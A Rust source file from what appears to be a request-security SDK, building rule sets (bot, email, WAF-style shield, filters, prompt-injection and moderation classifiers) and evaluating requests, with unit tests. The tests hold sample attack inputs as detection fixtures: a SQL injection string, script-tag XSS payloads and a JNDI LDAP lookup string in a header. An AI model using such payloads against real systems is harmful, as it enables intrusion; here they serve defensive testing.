//! Rule sets and the per-request evaluation behind `configure` / `analyze`.

use std::fmt::Write as _;

use std::borrow::Cow;

use serde::Deserialize;

use crate::bots::{self, Detector, Selector, Verification};
use crate::email;
use crate::net::parse_ip;
use crate::request::{parse_request, Request};
use crate::shield_rule::{self, CrsEngines, ShieldConfig, ShieldRule};

/// Message of the ERROR result for a bot rule when `User-Agent` is missing or
/// empty — the same words as the reference SDK, which reports an error there
/// rather than guessing (apps can match on "requires user-agent header").
pub const MISSING_UA: &str = "bot detection requires user-agent header";

#[derive(Deserialize)]
#[serde(tag = "kind")]
enum RuleConfig {
    #[serde(rename = "BOT")]
    Bot { index: u32, allow: Option<Vec<String>>, deny: Option<Vec<String>> },
    #[serde(rename = "EMAIL")]
    Email {
        index: u32,
        require_top_level_domain: bool,
        allow_domain_literal: bool,
        deny: Vec<String>,
        allow: Vec<String>,
    },
    /// Shield: the CRS and our detectors (see `shield_rule`).
    #[serde(rename = "SHIELD")]
    Shield(ShieldConfig),
    /// Sensitive information: the analyzer finds the built-in entities; the
    /// host applies allow/deny (and any custom `detect` function).
    #[serde(rename = "SENSITIVE_INFO")]
    SensitiveInfo { index: u32 },
    /// Request filters: expressions as IR (`filter/IR.md`), parsed and
    /// type-checked on the host.
    #[serde(rename = "FILTER")]
    Filter { index: u32, allow_mode: bool, expressions: Vec<FilterExpression> },
    /// Prompt injection: the `prompt` crate's classifier; `threshold` in
    /// (0, 1) overrides the model's own.
    #[serde(rename = "PROMPT_INJECTION")]
    PromptInjection { index: u32, threshold: Option<f32> },
    /// Content moderation: the `prompt` crate's second model over the same
    /// message field; `threshold` in (0, 1) overrides the model's own.
    #[serde(rename = "MODERATE_CONTENT")]
    ModerateContent { index: u32, threshold: Option<f32> },
}

#[derive(Deserialize)]
struct FilterExpression {
    source: String,
    ir: serde_json::Value,
}

#[derive(Deserialize)]
struct Config {
    rules: Vec<RuleConfig>,
}

struct BotRule {
    index: u32,
    /// true: the lists say what is allowed; false: what is denied.
    allow_mode: bool,
    ids: Vec<bool>,
    categories: u32,
}

struct EmailRule {
    index: u32,
    options: email::Options,
    deny_invalid: bool,
}

struct FilterRule {
    index: u32,
    allow_mode: bool,
    sources: Vec<String>,
    program: filter::Program,
}

enum Rule {
    Bot(BotRule),
    Email(EmailRule),
    Shield(ShieldRule),
    SensitiveInfo(u32),
    Filter(FilterRule),
    PromptInjection { index: u32, threshold: f32 },
    ModerateContent { index: u32, threshold: f32 },
}

/// A configured rule set.
pub struct RuleSet {
    rules: Vec<Rule>,
}

/// Holds the compiled bot catalogue and every configured rule set.
#[derive(Default)]
pub struct Analyzer {
    detector: Option<Detector>,
    rulesets: Vec<RuleSet>,
    /// Shield's hits of values seen in earlier requests (user agents,
    /// cookies, URLs, short fields repeat); bounded, see `shield::Memo`.
    shield_memo: shield::Memo,
    /// The CRS engines shield rules run, one per configuration.
    crs: CrsEngines,
}

impl Analyzer {
    /// An analyzer with no rule sets; the bot catalogue compiles on first use.
    pub fn new() -> Analyzer {
        Analyzer::default()
    }

    fn detector(&mut self) -> &Detector {
        self.detector.get_or_insert_with(Detector::new)
    }
}

/// Parse a rule set, store it, and return `{"handle": n}` or `{"error": "..."}`.
pub fn configure_json(an: &mut Analyzer, input: &[u8], out: &mut Vec<u8>) {
    out.clear();
    match build(input, &mut an.crs) {
        Ok(set) => {
            // Compile the catalogue now so the first request does not pay for it.
            if set.rules.iter().any(|r| matches!(r, Rule::Bot(_))) {
                an.detector();
            }
            an.rulesets.push(set);
            let _ = write!(Buf(out), "{{\"handle\":{}}}", an.rulesets.len() - 1);
        }
        Err(msg) => write_error(out, &msg),
    }
}

fn build(input: &[u8], engines: &mut CrsEngines) -> Result<RuleSet, String> {
    let cfg: Config = serde_json::from_slice(input).map_err(|e| format!("bad rule configuration: {}", e))?;
    let mut rules = Vec::with_capacity(cfg.rules.len());
    for rule in cfg.rules {
        rules.push(match rule {
            RuleConfig::Bot { index, allow, deny } => {
                let (allow_mode, list) = match (allow, deny) {
                    (Some(a), None) => (true, a),
                    (None, Some(d)) => (false, d),
                    _ => return Err("detect_bot takes exactly one of allow or deny".to_owned()),
                };
                let mut ids = vec![false; bots::unknown_bot_index() + 1];
                let mut categories = 0u32;
                for name in &list {
                    match bots::selector(name) {
                        Some(Selector::Id(i)) => ids[i] = true,
                        Some(Selector::Category(m)) => categories |= m,
                        None => return Err(format!("unknown bot identifier or category {:?}", name)),
                    }
                }
                Rule::Bot(BotRule { index, allow_mode, ids, categories })
            }
            RuleConfig::Email { index, require_top_level_domain, allow_domain_literal, deny, allow } => {
                let invalid = "INVALID";
                let deny_invalid = deny.iter().any(|d| d == invalid)
                    || (!allow.is_empty() && !allow.iter().any(|a| a == invalid));
                Rule::Email(EmailRule {
                    index,
                    options: email::Options { require_top_level_domain, allow_domain_literal },
                    deny_invalid,
                })
            }
            RuleConfig::Shield(cfg) => Rule::Shield(shield_rule::build(cfg, engines)?),
            RuleConfig::SensitiveInfo { index } => Rule::SensitiveInfo(index),
            RuleConfig::PromptInjection { index, threshold } => {
                let threshold = threshold.unwrap_or(prompt::DEFAULT_THRESHOLD);
                if !(threshold > 0.0 && threshold < 1.0) {
                    return Err(format!("prompt injection threshold must be in (0, 1), got {}", threshold));
                }
                Rule::PromptInjection { index, threshold }
            }
            RuleConfig::ModerateContent { index, threshold } => {
                let threshold = threshold.unwrap_or_else(prompt::moderation::threshold);
                if !(threshold > 0.0 && threshold < 1.0) {
                    return Err(format!("moderation threshold must be in (0, 1), got {}", threshold));
                }
                Rule::ModerateContent { index, threshold }
            }
            RuleConfig::Filter { index, allow_mode, expressions } => {
                let (sources, irs): (Vec<String>, Vec<serde_json::Value>) =
                    expressions.into_iter().map(|e| (e.source, e.ir)).unzip();
                let program = filter::Program::compile(&serde_json::Value::Array(irs))?;
                Rule::Filter(FilterRule { index, allow_mode, sources, program })
            }
        });
    }
    Ok(RuleSet { rules })
}

/// Evaluate one request against rule set `handle`. Writes
/// `{"r":[[index,"ALLOW"|"DENY"|"ERROR",reason],...]}`; a request that
/// cannot be read gives `{"error": "..."}`.
pub fn analyze_json(an: &mut Analyzer, handle: u32, input: &[u8], out: &mut Vec<u8>) {
    out.clear();
    let (req, body) = match parse_request(input) {
        Ok(r) => r,
        Err(e) => return write_error(out, &e),
    };
    if handle as usize >= an.rulesets.len() {
        return write_error(out, "unknown rule set handle");
    }
    let needs_bots = an.rulesets[handle as usize].rules.iter().any(|r| matches!(r, Rule::Bot(_)));
    if needs_bots {
        an.detector();
    }
    let Analyzer { detector, rulesets, shield_memo, crs } = an;
    let set = &rulesets[handle as usize];
    let detector = detector.as_ref();
    // Only bot rules read the parsed address (to verify crawlers' ranges).
    let ip = if needs_bots { parse_ip(&req.ip) } else { None };

    out.extend_from_slice(b"{\"r\":[");
    let mut detection: Option<bots::Detection> = None;
    // The last shield rule's inspection, reused by another configured alike.
    let mut inspected: Option<(&ShieldRule, shield_rule::Inspection)> = None;
    let mut prompt_score: Option<f32> = None;
    let mut moderation_score: Option<f32> = None;
    for (n, rule) in set.rules.iter().enumerate() {
        if n > 0 {
            out.push(b',');
        }
        match rule {
            Rule::Bot(rule) => {
                let ua = req.ua.as_deref().unwrap_or("");
                if ua.is_empty() {
                    write_error_outcome(out, rule.index, MISSING_UA);
                    continue;
                }
                let det = match (&detection, detector) {
                    (Some(d), _) => d,
                    (None, Some(d)) => detection.insert(d.detect(ua.as_bytes())),
                    (None, None) => unreachable!("detector compiled above"),
                };
                bot_outcome(rule, det, detector.expect("compiled"), ip.as_ref(), out);
            }
            Rule::Email(rule) => email_outcome(rule, req.email.as_deref(), out),
            Rule::Shield(rule) => {
                let ins = match &inspected {
                    Some((last, ins)) if shield_rule::Inspection::reusable_by(last, rule) => ins,
                    _ => &inspected.insert((rule, shield_rule::inspect(rule, &req, body, crs, shield_memo))).1,
                };
                shield_rule::write_outcome(rule, ins, out);
            }
            Rule::SensitiveInfo(index) => {
                let found = req.sensitive.as_deref().map(sensitive::detect);
                sensitive_outcome(*index, found.as_deref(), out)
            }
            Rule::Filter(rule) => filter_outcome(rule, &req, out),
            Rule::PromptInjection { index, threshold } => {
                // The same message for every prompt rule: classified once.
                let score = match (&prompt_score, req.prompt.as_deref()) {
                    (Some(s), _) => Some(*s),
                    (None, Some(text)) => Some(*prompt_score.insert(prompt::classify(text).score)),
                    (None, None) => None,
                };
                prompt_outcome(*index, *threshold, score, out)
            }
            Rule::ModerateContent { index, threshold } => {
                let score = match (&moderation_score, req.prompt.as_deref()) {
                    (Some(s), _) => Some(*s),
                    (None, Some(text)) => Some(*moderation_score.insert(prompt::moderation::classify(text).score)),
                    (None, None) => None,
                };
                moderation_outcome(*index, *threshold, score, out)
            }
        }
    }
    out.extend_from_slice(b"]}");
}

/// The entities found, for the host to judge against the rule's lists:
/// `{"type":"SENSITIVE_INFO_SCAN","entities":[[type,start,end],...]}`.
/// Offsets are code points; `found` is `None` when the host sent no text.
fn sensitive_outcome(index: u32, found: Option<&[sensitive::Entity]>, out: &mut Vec<u8>) {
    let found = match found {
        Some(f) => f,
        None => {
            write_error_outcome(out, index, "sensitive information detection requires a text or a body to scan");
            return;
        }
    };
    let _ = write!(Buf(out), "[{},\"ALLOW\",{{\"type\":\"SENSITIVE_INFO_SCAN\",\"entities\":[", index);
    for (n, e) in found.iter().enumerate() {
        if n > 0 {
            out.push(b',');
        }
        let _ = write!(Buf(out), "[\"{}\",{},{}]", e.kind.as_str(), e.start, e.end);
    }
    out.extend_from_slice(b"]}]");
}

/// `{"type":"PROMPT_INJECTION","injection_detected":b,"score":s}`, DENY when
/// detected; ERROR when the host sent no message.
fn prompt_outcome(index: u32, threshold: f32, score: Option<f32>, out: &mut Vec<u8>) {
    let score = match score {
        Some(s) => s,
        None => {
            write_error_outcome(out, index, "prompt injection detection requires a message to classify");
            return;
        }
    };
    let detected = score >= threshold;
    let _ = write!(
        Buf(out),
        "[{},\"{}\",{{\"type\":\"PROMPT_INJECTION\",\"injection_detected\":{},\"score\":{}}}]",
        index,
        if detected { "DENY" } else { "ALLOW" },
        detected,
        // Finite by construction (a logistic); JSON has no NaN, so say 0 if not.
        if score.is_finite() { score } else { 0.0 }
    );
}

/// `{"type":"MODERATE_CONTENT","detected":b,"score":s}`, DENY when
/// detected; ERROR when the host sent no text.
fn moderation_outcome(index: u32, threshold: f32, score: Option<f32>, out: &mut Vec<u8>) {
    let score = match score {
        Some(s) => s,
        None => {
            write_error_outcome(out, index, "content moderation requires a text to classify");
            return;
        }
    };
    let detected = score >= threshold;
    let _ = write!(
        Buf(out),
        "[{},\"{}\",{{\"type\":\"MODERATE_CONTENT\",\"detected\":{},\"score\":{}}}]",
        index,
        if detected { "DENY" } else { "ALLOW" },
        detected,
        if score.is_finite() { score } else { 0.0 }
    );
}

fn filter_outcome(rule: &FilterRule, req: &Request, out: &mut Vec<u8>) {
    let headers: &[Cow<str>] = req.shield_headers.as_deref().unwrap_or(&[]);
    let input = filter::Input {
        method: &req.method,
        path: &req.path,
        query: &req.query,
        cookies: &req.cookies,
        ip: &req.ip,
        headers,
        local: &req.local,
        ip_details: &req.ip_details,
    };
    let verdicts = rule.program.eval(&input);
    let pick = |want: filter::Tri| -> Vec<&str> {
        verdicts.iter().zip(&rule.sources).filter(|(v, _)| **v == want).map(|(_, s)| s.as_str()).collect()
    };
    let matched = pick(filter::Tri::True);
    let undetermined = pick(filter::Tri::Undetermined);
    // deny mode: a true expression denies; allow mode: only a true one allows.
    let deny = matched.is_empty() == rule.allow_mode;
    let _ = write!(Buf(out), "[{},\"{}\",{{\"type\":\"FILTER\",\"matched_expressions\":", rule.index,
                   if deny { "DENY" } else { "ALLOW" });
    write_str_list(out, &matched);
    out.extend_from_slice(b",\"undetermined_expressions\":");
    write_str_list(out, &undetermined);
    out.extend_from_slice(b"}]");
}

fn bot_outcome(rule: &BotRule, det: &bots::Detection, detector: &Detector, ip: Option<&std::net::IpAddr>, out: &mut Vec<u8>) {
    let mut allowed: Vec<&str> = Vec::new();
    let mut denied: Vec<&str> = Vec::new();
    let (mut verified, mut spoofed) = (false, false);
    let mut judge = |index: usize, verdict: Verification| {
        let listed = rule.ids[index] || bots::category_mask(index) & rule.categories != 0;
        let id = bots::id_of(index);
        match verdict {
            // A crawler outside its operator's ranges is lying about who it is:
            // deny it whatever the lists say.
            Verification::Spoofed => {
                spoofed = true;
                denied.push(id);
            }
            v => {
                verified |= v == Verification::Verified;
                if listed == rule.allow_mode { allowed.push(id) } else { denied.push(id) }
            }
        }
    };
    for e in &det.entries {
        judge(*e as usize, detector.verify(*e, ip));
    }
    if det.unknown {
        judge(bots::unknown_bot_index(), Verification::Unknown);
    }
    let conclusion = if denied.is_empty() { "ALLOW" } else { "DENY" };
    let _ = write!(Buf(out), "[{},\"{}\",{{\"type\":\"BOT\",\"allowed\":", rule.index, conclusion);
    write_str_list(out, &allowed);
    out.extend_from_slice(b",\"denied\":");
    write_str_list(out, &denied);
    let _ = write!(Buf(out), ",\"verified\":{},\"spoofed\":{}}}]", verified, spoofed);
}

fn email_outcome(rule: &EmailRule, address: Option<&str>, out: &mut Vec<u8>) {
    let address = match address {
        Some(a) => a,
        None => {
            write_error_outcome(out, rule.index, "email validation requires an email address");
            return;
        }
    };
    match email::validate(address, rule.options) {
        Ok(()) => {
            let _ = write!(Buf(out), "[{},\"ALLOW\",{{\"type\":\"EMAIL\",\"email_types\":[]}}]", rule.index);
        }
        Err(reason) => {
            let conclusion = if rule.deny_invalid { "DENY" } else { "ALLOW" };
            let _ = write!(
                Buf(out),
                "[{},\"{}\",{{\"type\":\"EMAIL\",\"email_types\":[\"INVALID\"],\"message\":",
                rule.index, conclusion
            );
            write_json_str(out, reason);
            out.extend_from_slice(b"}]");
        }
    }
}

fn write_error(out: &mut Vec<u8>, msg: &str) {
    out.clear();
    out.extend_from_slice(b"{\"error\":");
    write_json_str(out, msg);
    out.push(b'}');
}

/// `[index,"ERROR",{"type":"ERROR","message":msg}]`: a rule that cannot run.
fn write_error_outcome(out: &mut Vec<u8>, index: u32, msg: &str) {
    let _ = write!(Buf(out), "[{},\"ERROR\",", index);
    write_error_reason(out, msg);
    out.push(b']');
}

fn write_error_reason(out: &mut Vec<u8>, msg: &str) {
    out.extend_from_slice(b"{\"type\":\"ERROR\",\"message\":");
    write_json_str(out, msg);
    out.push(b'}');
}

fn write_str_list(out: &mut Vec<u8>, items: &[&str]) {
    out.push(b'[');
    for (i, s) in items.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        write_json_str(out, s);
    }
    out.push(b']');
}

fn write_json_str(out: &mut Vec<u8>, s: &str) {
    // serde_json escapes exactly what JSON needs; writing into a Vec cannot fail.
    let _ = serde_json::to_writer(&mut *out, s);
}

/// `fmt::Write` over a byte vector, for small formatted pieces.
struct Buf<'a>(&'a mut Vec<u8>);

impl std::fmt::Write for Buf<'_> {
    fn write_str(&mut self, s: &str) -> std::fmt::Result {
        self.0.extend_from_slice(s.as_bytes());
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(config: &str, request: &str) -> String {
        run_bytes(config, request.as_bytes())
    }

    fn run_bytes(config: &str, request: &[u8]) -> String {
        let mut an = Analyzer::new();
        let mut out = Vec::new();
        configure_json(&mut an, config.as_bytes(), &mut out);
        assert_eq!(out, b"{\"handle\":0}", "{}", String::from_utf8_lossy(&out));
        analyze_json(&mut an, 0, request, &mut out);
        String::from_utf8(out).unwrap()
    }

    const SHIELD: &str = r#"{"rules":[{"kind":"SHIELD","index":3}]}"#;

    #[test]
    fn shield_clean_request_allows() {
        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","/","q=hello","a=1",["user-agent","x"],null]"#);
        assert_eq!(out, r#"{"r":[[3,"ALLOW",{"type":"SHIELD","shield_triggered":false,"categories":[],"score":0,"severities":{}}]]}"#);
    }

    #[test]
    fn shield_high_finding_denies_with_score() {
        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","/","q=1%27%20or%201%3D1--","",[],null]"#);
        assert!(out.starts_with(r#"{"r":[[3,"DENY",{"type":"SHIELD","shield_triggered":true,"categories":["SQL_INJECTION"],"score":3,"#), "{}", out);
        assert!(out.contains(r#""severities":{"SQL_INJECTION":"HIGH"}"#), "{}", out);
    }

    fn with_body(head: &str, body: &[u8]) -> Vec<u8> {
        let mut v = format!("{},{}]", head, body.len()).into_bytes();
        v.extend_from_slice(body);
        v
    }

    #[test]
    fn shield_body_bytes_follow_the_array_raw() {
        let head = r#"[null,"1.2.3.4",null,"POST","/","","",["content-type","application/x-www-form-urlencoded"]"#;
        let out = run_bytes(SHIELD, &with_body(head, b"f=%3Cscript%3Ealert(1)%3C/script%3E&g=\xff\x00\"]"));
        assert!(out.contains(r#""DENY""#) && out.contains(r#""XSS""#), "{}", out);
        let out = run_bytes(SHIELD, &with_body(head, b"f=hello&g=\xff"));
        assert!(out.contains(r#""ALLOW""#), "{}", out);
        // A length that does not match what follows is refused, not guessed at.
        let mut bad = with_body(head, b"f=1");
        bad.push(b'x');
        assert!(run_bytes(SHIELD, &bad).starts_with(r#"{"error":"bad request encoding: body of 3 bytes"#));
        let trailing = r#"[null,"1.2.3.4",null,"GET","/","","",null,null]xyz"#;
        assert!(run(SHIELD, trailing).starts_with(r#"{"error":"bad request encoding: trailing"#));
    }

    #[test]
    fn shield_upper_case_header_names_are_lowered() {
        let out = run(SHIELD, r#"[null,"1.2.3.4",null,"GET","/","","",["X-Api-Version","${jndi:ldap://e.com/a}"],null]"#);
        assert!(out.contains("JAVA_INJECTION"), "{}", out);
    }

    #[test]
    fn shield_limits_are_configurable() {
        let prefix = r#"{"rules":[{"kind":"SHIELD","index":0,"max_body_bytes":4,"on_limit":"inspect_prefix"}]}"#;
        let req = with_body(r#"[null,"1.2.3.4",null,"POST","/","","",["content-type","text/plain"]"#, b"abcd<script>alert(1)</script>");
        let out = run_bytes(prefix, &req);
        assert!(out.contains(r#""ALLOW""#) && out.contains(r#""severities":{"INSPECTION_LIMIT":"LOW"}"#), "{}", out);
        // The default policy denies what it cannot inspect.
        let deny = r#"{"rules":[{"kind":"SHIELD","index":0,"max_body_bytes":4}]}"#;
        let out = run_bytes(deny, &req);
        assert!(out.contains(r#""DENY""#) && out.contains(r#""severities":{"INSPECTION_LIMIT":"HIGH"}"#), "{}", out);
        assert!(run_bytes(SHIELD, &req).contains(r#""DENY""#));
        let bad = r#"{"rules":[{"kind":"SHIELD","index":0,"on_limit":"ignore"}]}"#;
        let mut an = Analyzer::new();
        let mut out = Vec::new();
        configure_json(&mut an, bad.as_bytes(), &mut out);
        assert!(String::from_utf8_lossy(&out).contains("on_limit"), "{}", String::from_utf8_lossy(&out));
    }

    #[test]
    fn shield_applies_on_limit_to_what_the_host_cut() {
        let prefix = r#"{"rules":[{"kind":"SHIELD","index":0,"on_limit":"inspect_prefix"}]}"#;
        let text = r#"[null,"1.2.3.4",null,"POST","/","","",["content-type","text/plain"]"#;
        let clean = with_body(text, b"hello");
        assert!(run_bytes(SHIELD, &clean).contains(r#""shield_triggered":false"#));
        // "t": the host's read limit cut the body.
        let mut cut_body = with_body(text, b"hello");
        cut_body.truncate(cut_body.len() - 5 - 1);
        cut_body.extend_from_slice(br#","t"]hello"#);
        let out = run_bytes(SHIELD, &cut_body);
        assert!(out.contains(r#""DENY""#) && out.contains("INSPECTION_LIMIT"), "{}", out);
        let out = run_bytes(prefix, &cut_body);
        assert!(out.contains(r#""ALLOW""#) && out.contains(r#""INSPECTION_LIMIT":"LOW""#), "{}", out);
        // A cut body of a type shield does not read is not over any limit.
        let png = r#"[null,"1.2.3.4",null,"POST","/","","",["content-type","image/png"],5,"t"]hello"#;
        assert!(run(SHIELD, png).contains(r#""shield_triggered":false"#), "{}", run(SHIELD, png));
        // "c": headers or fields cut to fit the frame.
        let cut_head = r#"[null,"1.2.3.4",null,"GET","/","","",[],null,"c"]"#;
        let out = run(SHIELD, cut_head);
        assert!(out.contains(r#""DENY""#) && out.contains("INSPECTION_LIMIT"), "{}", out);
    }
}
